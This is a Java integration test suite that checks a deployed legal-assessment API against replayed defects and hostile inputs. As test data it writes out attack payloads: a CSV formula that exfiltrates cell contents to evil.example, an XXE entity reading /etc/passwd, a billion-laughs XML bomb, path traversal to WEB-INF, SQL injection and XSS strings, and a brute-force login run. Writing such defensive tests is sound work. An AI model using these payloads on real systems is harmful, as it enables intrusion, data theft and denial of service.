package org.lexgap.api;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.lexgap.ingest.control.TestPdfs;
import org.lexgap.it.ApiClient;
import org.lexgap.it.DeployedServiceIT;
import org.lexgap.json.Mappers;

/**
 * The attack suite: each defect of issue 18 replayed over HTTP, and hostile inputs, against the deployed WAR.
 * Every test is bounded in time; none asserts a timing.
 */
@Timeout(value = 5, unit = java.util.concurrent.TimeUnit.MINUTES)
class AttackIT extends DeployedServiceIT {

    private static final String PASSWORD = "an attack suite password";
    private static final String BOUNDARY = "attack-boundary";

    private String reviewer(String name) throws Exception {
        return api().userToken(name, "reviewer", PASSWORD);
    }

    /** The JSON of a finding, written as bytes: a lone surrogate then travels escaped, not turned into '?'. */
    private static String finding(String rationale, String source) throws Exception {
        return new String(Mappers.json().writeValueAsBytes(Map.of("level", "1", "evidence", List.of(),
                "rationale", rationale, "sources", List.of(source), "status", "reviewed")), StandardCharsets.UTF_8);
    }

    private static JsonNode json(HttpResponse<String> response) throws Exception {
        return Mappers.json().readTree(response.body());
    }

    private static void assertProblem(HttpResponse<?> response, int... statuses) {
        boolean expected = false;
        for (int s : statuses) {
            expected |= response.statusCode() == s;
        }
        assertTrue(expected, response.statusCode() + " " + response.body());
        assertTrue(ApiClient.header(response, "Content-Type").startsWith(Problem.MEDIA_TYPE),
                "problem+json, not " + ApiClient.header(response, "Content-Type") + ": " + response.body());
    }

    /** Defect 1: eight clients GET then PUT with If-Match; the stored finding is the last acknowledged one. */
    @Test
    void eightClientsEditingOneCriterionLoseNoAcknowledgedChange() throws Exception {
        String path = "api/countries/FR/assessment/criteria/JUR-EXTRATERRITORIAL";
        List<String> tokens = List.of(reviewer("atk-edit-a"), reviewer("atk-edit-b"));
        assertEquals(201, api().send("PUT", path, finding("The first version of this finding.",
                "https://example.org/fr"), tokens.get(0), Map.of("If-None-Match", "*")).statusCode());
        Map<Long, String> acknowledged = new ConcurrentHashMap<>();
        List<String> wrong = java.util.Collections.synchronizedList(new ArrayList<>());
        long until = System.nanoTime() + Duration.ofSeconds(8).toNanos();
        ExecutorService pool = Executors.newFixedThreadPool(8);
        List<Future<?>> clients = new ArrayList<>();
        for (int c = 0; c < 8; c++) {
            String token = tokens.get(c % 2);
            int client = c;
            clients.add(pool.submit(() -> {
                for (int n = 0; System.nanoTime() < until; n++) {
                    String etag = ApiClient.header(api().get(path), "ETag");
                    String rationale = "Client " + client + ", change " + n + ".";
                    HttpResponse<String> put = api().send("PUT", path, finding(rationale, "https://example.org/fr"),
                            token, etag);
                    if (put.statusCode() == 200) {
                        acknowledged.put(Long.parseLong(ApiClient.header(put, "ETag").replace("\"", "")), rationale);
                    } else if (put.statusCode() != 412 || json(put).get("currentVersion").asText()
                            .equals(etag.replace("\"", ""))) {
                        wrong.add(put.statusCode() + " for " + etag + ": " + put.body());
                    }
                }
                return null;
            }));
        }
        for (Future<?> client : clients) {
            client.get();
        }
        pool.shutdown();
        assertEquals(List.of(), wrong, "only a stale ETag is refused");
        long last = acknowledged.keySet().stream().mapToLong(Long::longValue).max().orElseThrow();
        HttpResponse<String> stored = api().get(path);
        assertEquals("\"" + last + "\"", ApiClient.header(stored, "ETag"));
        assertEquals(acknowledged.get(last), json(stored).get("rationale").asText());
        JsonNode history = json(api().get(path + "/history"));
        assertEquals(last, history.get(history.size() - 1).get("version").asLong());
        assertEquals(200, api().send("PUT", path, finding("After the run, with the current ETag.",
                "https://example.org/fr"), tokens.get(0), "\"" + last + "\"").statusCode());
    }

    /** Defects 2 and 5: control characters are refused; reports of every format work; no CSV cell is a formula. */
    @Test
    void controlCharactersAreRefusedAndReportsHoldNoFormula() throws Exception {
        String token = reviewer("atk-text");
        String path = "api/countries/ES/assessment/criteria/JUR-EXTRATERRITORIAL";
        for (String bad : new String[] {"\u0007", "\u0000", "\u001B", "\uFFFE", "\uD800"}) {
            HttpResponse<String> refused = api().send("PUT", path, finding("A bell " + bad + " in the text.",
                    "https://example.org/es"), token, Map.of("If-None-Match", "*"));
            assertProblem(refused, 400);
            assertTrue(json(refused).get("detail").asText().contains("invisible character U+"), refused.body());
        }
        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"source\")";
        assertEquals(201, api().send("PUT", path, finding(formula, "https://example.org/es"), token,
                Map.of("If-None-Match", "*")).statusCode());
        String csv = api().get("api/countries/ES/report?format=csv").body();
        assertTrue(csv.contains("'=HYPERLINK"), "the formula is defused: " + csv);
        assertFalse(csv.contains(",=HYPERLINK") || csv.contains(",\"=HYPERLINK"), "no cell starts a formula");
        for (String format : new String[] {"pdf", "html", "json", "csv"}) {
            assertEquals(200, api().getBytes("api/countries/ES/report?format=" + format).statusCode(), format);
        }
        HttpResponse<byte[]> zip = api().getBytes("api/reports/bulk?countries=ES,FR");
        assertEquals(200, zip.statusCode());
        int entries = 0;
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip.body()))) {
            for (ZipEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                try (PDDocument pdf = Loader.loadPDF(in.readAllBytes())) {
                    assertTrue(pdf.getNumberOfPages() > 3, e.getName());
                }
                entries++;
            }
        }
        assertEquals(2, entries);
    }

    /** Defect 4: fifty parallel wrong sign-ins check at most five passwords; the right one then comes too late. */
    @Test
    void fiftyParallelWrongSignInsCheckAtMostFivePasswords() throws Exception {
        api().userToken("atk-target", "reader", PASSWORD);
        AtomicInteger checked = new AtomicInteger();
        AtomicInteger limited = new AtomicInteger();
        CountDownLatch start = new CountDownLatch(1);
        ExecutorService pool = Executors.newFixedThreadPool(25);
        List<Future<?>> attempts = new ArrayList<>();
        for (int i = 0; i < 50; i++) {
            String body = "{\"username\":\"atk-target\",\"password\":\"wrong password " + i + "\"}";
            attempts.add(pool.submit(() -> {
                start.await();
                int status = api().post("api/auth/token", body, null).statusCode();
                (status == 401 ? checked : limited).incrementAndGet();
                assertTrue(status == 401 || status == 429, "status " + status);
                return null;
            }));
        }
        start.countDown();
        for (Future<?> f : attempts) {
            f.get();
        }
        pool.shutdown();
        assertTrue(checked.get() <= 5, "passwords checked: " + checked.get());
        HttpResponse<String> right = api().post("api/auth/token", "{\"username\":\"atk-target\",\"password\":\""
                + PASSWORD + "\"}", null);
        assertProblem(right, 429);
        assertFalse(ApiClient.header(right, "Retry-After").isEmpty());
    }

    /** Issue 17: a bad country code is the same 400 problem everywhere; problems carry a type, never about:blank. */
    @Test
    void aBadCountryCodeIsTheSameProblemEverywhereAndEveryProblemHasAType() throws Exception {
        String invalid = ProblemType.INVALID_PARAMETER.uri();
        String admin = api().signIn(ApiClient.ADMIN, ApiClient.ADMIN_PASSWORD);
        for (HttpResponse<String> response : List.of(api().get("api/countries/ZZ/findings.yaml"),
                api().get("api/countries/ZZ/report"), api().get("api/search?country=ZZ"),
                upload(admin, "ZZ", null, "law.txt", "text/plain", "Article 1\nText.".getBytes()))) {
            assertProblem(response, 400);
            assertEquals(invalid, json(response).get("type").asText(), response.body());
        }
        assertEquals(ProblemType.NOT_FOUND.uri(), json(api().get("api/provisions/cets-216/art-999")).get("type")
                .asText());
        assertEquals(ProblemType.NO_ENDPOINT.uri(), json(api().get("api/no-such-endpoint")).get("type").asText());
        assertEquals(ProblemType.UNAUTHORIZED.uri(), json(api().send("PUT",
                "api/countries/IT/assessment/criteria/JUR-EXTRATERRITORIAL", finding("A long enough rationale.",
                        "https://example.org/law"), null, Map.of())).get("type").asText());
        // the provision id is two path segments, and the combined id is the same address
        assertEquals(200, api().get("api/provisions/cets-216/art-10").statusCode());
        assertEquals(200, api().get("api/provisions/cets-216/art-10/similar?size=3").statusCode());
    }

    /** Defect 6: unknown State, javascript: sources, path tricks; and hostile uploads. */
    @Test
    void smallerDefectsAndHostileUploads() throws Exception {
        String admin = api().signIn(ApiClient.ADMIN, ApiClient.ADMIN_PASSWORD);
        assertProblem(upload(admin, "QQ", null, "law.txt", "text/plain", "Article 1\nText.".getBytes()), 400);
        assertEquals(400, api().get("api/countries/QQ").statusCode());
        assertProblem(upload(admin, "NZ", "javascript:alert(1)", "law.txt", "text/plain", "Article 1\nText."
                .getBytes()), 400);
        assertProblem(api().send("PUT", "api/countries/IT/assessment/criteria/JUR-EXTRATERRITORIAL",
                finding("A long enough rationale.", "javascript:alert(1)"), reviewer("atk-src"),
                Map.of("If-None-Match", "*")), 400);
        for (String path : new String[] {"api/provisions/cets-216%2Fart-10", "api/documents/..%2F..%2Fetc",
            "api/countries/%2e%2e", "nothing.html", "WEB-INF/web.xml", "js/%2e%2e/WEB-INF/web.xml"}) {
            HttpResponse<String> answer = api().get(path);
            assertProblem(answer, 400, 404);
        }
        byte[] pdf = TestPdfs.pages(List.of(new TestPdfs.Page(null, List.of("Article 1", "Text."), null)));
        Map<String, byte[]> hostile = Map.of(
                "encrypted.pdf", TestPdfs.encrypted(pdf),
                "corrupt.pdf", java.util.Arrays.copyOf(pdf, pdf.length / 2),
                "bomb.pdf", TestPdfs.textBomb(400_000),
                "xxe.xml", ("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                        + "<akomaNtoso><act><body><p>&x;</p></body></act></akomaNtoso>").getBytes(),
                "laughs.xml", ("<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;"
                        + "&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><akomaNtoso>&c;</akomaNtoso>")
                        .getBytes());
        for (Map.Entry<String, byte[]> file : hostile.entrySet()) {
            String type = file.getKey().endsWith(".pdf") ? "application/pdf" : "application/xml";
            HttpResponse<String> refused = upload(admin, "NZ", null, file.getKey(), type, file.getValue());
            assertTrue(refused.statusCode() >= 400 && refused.statusCode() < 500, file.getKey() + ": "
                    + refused.statusCode() + " " + refused.body());
            assertFalse(refused.body().contains("Exception"), refused.body());
        }
    }

    /** Malformed and oversized JSON, SQL injection and XSS strings: 4xx or harmless answers, never a 500. */
    @Test
    void malformedOversizedAndInjectedInputsGetProblemsNotErrors() throws Exception {
        String token = reviewer("atk-json");
        String path = "api/countries/PT/assessment/criteria/JUR-EXTRATERRITORIAL";
        for (String body : new String[] {"{", "{\"level\":", "[1,2", "{\"level\":\"1\",\"level\":\"2\"}", "null",
            "{\"unknown\":true}", "\"\u0000\""}) {
            HttpResponse<String> answer = api().send("PUT", path, body, token, Map.of("If-None-Match", "*"));
            assertProblem(answer, 400);
        }
        String big = "{\"rationale\":\"" + "x".repeat(200_000) + "\"}";
        assertProblem(api().send("PUT", path, big, token, Map.of("If-None-Match", "*")), 413);
        for (String attack : new String[] {"' OR 1=1 --", "\"; DROP TABLE findings; --", "1; SELECT * FROM users",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>"}) {
            String q = java.net.URLEncoder.encode(attack, StandardCharsets.UTF_8);
            for (String url : new String[] {"api/search?q=" + q, "api/search?q=organ&country=" + q,
                "api/assessments?countries=" + q, "api/countries/" + q}) {
                HttpResponse<String> answer = api().get(url);
                assertTrue(answer.statusCode() < 500, url + ": " + answer.statusCode() + " " + answer.body());
                assertFalse(ApiClient.header(answer, "Content-Type").startsWith("text/html"), url);
                assertEquals("nosniff", ApiClient.header(answer, "X-Content-Type-Options"), url);
            }
        }
        assertEquals(200, api().get("api/countries").statusCode(), "the store is intact");
        api().signIn(ApiClient.ADMIN, ApiClient.ADMIN_PASSWORD);
    }

    private HttpResponse<String> upload(String token, String jurisdiction, String source, String name, String type,
                                        byte[] content) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Map<String, String> fields = new java.util.LinkedHashMap<>(Map.of("jurisdiction", jurisdiction,
                "title", "Attack " + name, "language", "en", "status", "official"));
        if (source != null) {
            fields.put("source", source);
        }
        for (Map.Entry<String, String> f : fields.entrySet()) {
            out.write(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + f.getKey() + "\"\r\n\r\n"
                    + f.getValue() + "\r\n").getBytes(StandardCharsets.UTF_8));
        }
        out.write(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name
                + "\"\r\nContent-Type: " + type + "\r\n\r\n").getBytes(StandardCharsets.UTF_8));
        out.write(content);
        out.write(("\r\n--" + BOUNDARY + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return api().request("POST", "api/documents", HttpRequest.BodyPublishers.ofByteArray(out.toByteArray()),
                token, Map.of("Content-Type", "multipart/form-data; boundary=" + BOUNDARY),
                HttpResponse.BodyHandlers.ofString());
    }
}
